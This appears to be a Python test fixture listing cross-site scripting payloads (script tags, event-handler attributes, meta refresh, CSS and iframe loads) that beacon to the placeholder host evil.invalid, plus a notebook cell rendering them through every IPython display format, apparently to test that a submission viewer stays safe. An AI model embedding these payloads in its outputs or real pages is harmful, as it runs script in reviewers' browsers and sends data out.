"""What a submission can try on whoever looks at it: each piece, run, would call out and sign."""

from __future__ import annotations

__all__ = ["ANSWER", "CALLS_OUT", "CODE", "PIECES"]

#: A host that no page has any business with.
CALLS_OUT = "http://evil.invalid/"

_RUN = f"window.owned=1;fetch('{CALLS_OUT}f');new Image().src='{CALLS_OUT}i'"

PIECES = [
    f"<script>{_RUN}</script>",
    f'<img src="{CALLS_OUT}p.png" onerror="{_RUN}">',
    f'<svg onload="{_RUN}"><script>{_RUN}</script></svg>',
    f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe><iframe src="{CALLS_OUT}"></iframe>',
    f'<details open ontoggle="{_RUN}">x</details>',
    f'<style>@import "{CALLS_OUT}c.css"; body {{ background: url({CALLS_OUT}b.png) }}</style>',
    f'<link rel="stylesheet" href="{CALLS_OUT}l.css"><base href="{CALLS_OUT}">',
    f'<meta http-equiv="refresh" content="0;url={CALLS_OUT}m">',
    f'<object data="{CALLS_OUT}o"></object><embed src="{CALLS_OUT}e">',
    f'<video autoplay src="{CALLS_OUT}v"></video><input autofocus onfocus="{_RUN}">',
]

#: An answer in words.
ANSWER = "\n\n".join(
    [*PIECES, f'<a href="javascript:{_RUN}">x</a>', f"[click]({CALLS_OUT})", f"![x]({CALLS_OUT}q)"]
)

#: A cell that shows all of it, in every format that a notebook knows.
CODE = f"""
from IPython.display import HTML, Javascript, Latex, Markdown, SVG, display
pieces = {PIECES!r}
text = "".join(pieces)
for show in (HTML, Markdown, Latex, Javascript):
    try: display(show(text))
    except Exception as error: print(error)
try: display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='window.owned=1'></svg>"))
except Exception as error: print(error)
display({{"text/html": text, "image/svg+xml": text, "application/javascript": text,
         "text/markdown": text, "image/png": '"><script>window.owned=1</script>',
         "text/plain": text}}, raw=True)
print("</pre></section>" + text)
class Shown:
    def __repr__(self): return "</pre>" + text
    def _repr_html_(self): return text
    def _repr_javascript_(self): return "window.owned=1"
    def _repr_png_(self): return '"><script>window.owned=1</script>'
display(Shown())
raise ValueError("</pre>" + text)
"""
